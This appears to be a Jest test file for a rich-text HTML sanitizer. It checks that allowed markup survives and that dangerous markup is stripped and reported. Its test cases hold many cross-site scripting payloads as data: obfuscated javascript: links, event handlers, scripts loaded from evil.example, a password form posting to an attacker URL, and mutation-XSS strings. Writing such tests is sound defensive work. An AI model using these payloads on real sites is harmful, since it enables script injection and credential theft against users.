/** @jest-environment jsdom */
import { RICH_TEXT_POLICY } from './richTextPolicy';
import { sanitizeRichText } from './sanitizeRichText';

const ALLOWED_TAGS = new Set(RICH_TEXT_POLICY.allowedTags as string[]);

/** An address as a browser reads its scheme: spaces and control characters do not count. */
const withoutInvisibles = (address: string) =>
  [...address].filter((char) => char.charCodeAt(0) > 0x20).join('');

/**
 * Reads the markup as a browser does and checks that nothing in it can run, load, post or
 * restyle: only allowlisted elements, no event handlers or styles, no script or data addresses.
 */
function expectInert(html: string) {
  const template = document.createElement('template');
  template.innerHTML = html;
  for (const element of template.content.querySelectorAll('*')) {
    expect(ALLOWED_TAGS).toContain(element.localName);
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^(on|style$|class$|id$|target$|formaction$|xlink)/);
      if (name === 'href' || name === 'src')
        expect(withoutInvisibles(value)).not.toMatch(/^(javascript|vbscript|data):|^\/\//i);
    }
  }
}

describe('sanitizeRichText', () => {
  it('keeps the markup rich text is made of, unchanged and without a warning', () => {
    const html =
      '<h2>Visit us</h2><p>Open <strong>every</strong> day, <em>late</em> on Thursdays.<br />Parking is free.</p>' +
      '<ul><li>Level 1</li><li>Level 2</li></ul><ol start="2"><li>Two</li></ol>' +
      '<p><a href="https://example.com/a?b=1&amp;c=2" title="Example">Example</a> <a href="/stores/">Stores</a> ' +
      '<a href="mailto:info@example.com">mail</a> <a href="tel:+61262800000">call</a> <a href="#hours">hours</a></p>' +
      '<blockquote><p>Quote</p></blockquote>' +
      '<table><caption>Hours</caption><thead><tr><th scope="col">Day</th></tr></thead><tbody><tr><td colspan="2">9-5</td></tr></tbody></table>' +
      '<figure><img src="/images/map.png" alt="Centre map" width="640" height="480" /><figcaption>Map</figcaption></figure>';
    expect(sanitizeRichText(html)).toEqual({ html, removed: [] });
  });

  it.each([
    ['a script element', '<p>Hi</p><script>alert(1)</script>', '<p>Hi</p>', ['<script>']],
    [
      'an upper-case script',
      '<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>Hi</p>',
      '<p>Hi</p>',
      ['<script>', 'src on <script>'],
    ],
    ['an event handler', '<p onclick="alert(1)">Hi</p>', '<p>Hi</p>', ['onclick on <p>']],
    [
      'an image that fails on purpose',
      '<img src="x" onerror="alert(1)">',
      '<img src="x" />',
      ['onerror on <img>'],
    ],
    ['a javascript: link', '<a href="javascript:alert(1)">x</a>', '<a>x</a>', ['href on <a>']],
    [
      'a javascript: link in mixed case with spaces',
      '<a href=" JaVaScRiPt:alert(1)">x</a>',
      '<a>x</a>',
      ['href on <a>'],
    ],
    [
      'an entity-encoded javascript: link',
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
      '<a>x</a>',
      ['href on <a>'],
    ],
    [
      'a hex-entity javascript: link with a tab inside',
      '<a href="jav&#x09;ascript&#x3A;alert(1)">x</a>',
      '<a>x</a>',
      ['href on <a>'],
    ],
    ['a vbscript: link', '<a href="vbscript:msgbox(1)">x</a>', '<a>x</a>', ['href on <a>']],
    [
      'a data: link',
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
      '<a>x</a>',
      ['href on <a>'],
    ],
    [
      'a data: picture',
      '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="x">',
      '<img alt="x" />',
      ['src on <img>'],
    ],
    [
      'a plain-http picture',
      '<img src="http://tracker.example/p.gif" alt="">',
      '<img alt="" />',
      ['src on <img>'],
    ],
    ['a protocol-relative link', '<a href="//evil.example/">x</a>', '<a>x</a>', ['href on <a>']],
    [
      'inline SVG with a script',
      '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg><p>ok</p>',
      '<p>ok</p>',
      ['<svg>', 'onload on <svg>', '<script>', '<a>', 'xlink:href on <a>'],
    ],
    [
      'a form posting elsewhere',
      '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
      'Log in',
      ['<form>', 'action on <form>', '<input>', 'name on <input>', '<button>'],
    ],
    [
      'a formaction on a button',
      '<button formaction="javascript:alert(1)">Go</button>',
      'Go',
      ['<button>', 'formaction on <button>'],
    ],
    [
      'an iframe',
      '<iframe src="https://evil.example/"></iframe><p>ok</p>',
      '<p>ok</p>',
      ['<iframe>', 'src on <iframe>'],
    ],
    [
      'an object and an embed',
      '<object data="x.swf"></object><embed src="x.swf">',
      '',
      ['<object>', 'data on <object>', '<embed>', 'src on <embed>'],
    ],
    [
      'a full-page overlay in a style attribute',
      '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">Pay here</p>',
      '<p>Pay here</p>',
      ['style on <p>'],
    ],
    ['a style element', '<style>body{display:none}</style><p>ok</p>', '<p>ok</p>', ['<style>']],
    [
      'a CSS expression and url() in style',
      '<div style="background:url(javascript:alert(1));width:expression(alert(1))">x</div>',
      'x',
      ['<div>', 'style on <div>'],
    ],
    [
      'a class reaching the site’s own styles',
      '<p class="visually-hidden" id="main">x</p>',
      '<p>x</p>',
      ['class on <p>', 'id on <p>'],
    ],
    [
      'a meta refresh',
      '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>ok</p>',
      '<p>ok</p>',
      ['<meta>', 'http-equiv on <meta>', 'content on <meta>'],
    ],
    [
      'a base element',
      '<base href="https://evil.example/"><a href="/stores/">Stores</a>',
      '<a href="/stores/">Stores</a>',
      ['<base>', 'href on <base>'],
    ],
    [
      'a stylesheet link',
      '<link rel="stylesheet" href="https://evil.example/x.css"><p>ok</p>',
      '<p>ok</p>',
      ['<link>', 'rel on <link>', 'href on <link>'],
    ],
    [
      'a target and an opener',
      '<a href="https://example.com/" target="_self" rel="opener">x</a>',
      '<a href="https://example.com/">x</a>',
      ['target on <a>', 'rel on <a>'],
    ],
    ['a second h1', '<h1>Big</h1><p>x</p>', 'Big<p>x</p>', ['<h1>']],
  ])('removes %s and says so', (_name, input, output, removed) => {
    const result = sanitizeRichText(input);
    expect(result.html).toBe(output);
    expectInert(result.html);
    expect(result.removed).toEqual(removed);
  });

  it('leaves no markup a browser would run in a comment or a broken tag', () => {
    for (const payload of [
      '<!--<img src=x onerror=alert(1)>-->',
      '<p><img src="x" alt="</p><img src=x onerror=alert(1)>"></p>',
      '<scr<script>ipt>alert(1)</script>',
      '<a href="java\u0000script:alert(1)">x</a>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ]) {
      expectInert(sanitizeRichText(payload).html);
    }
  });
});
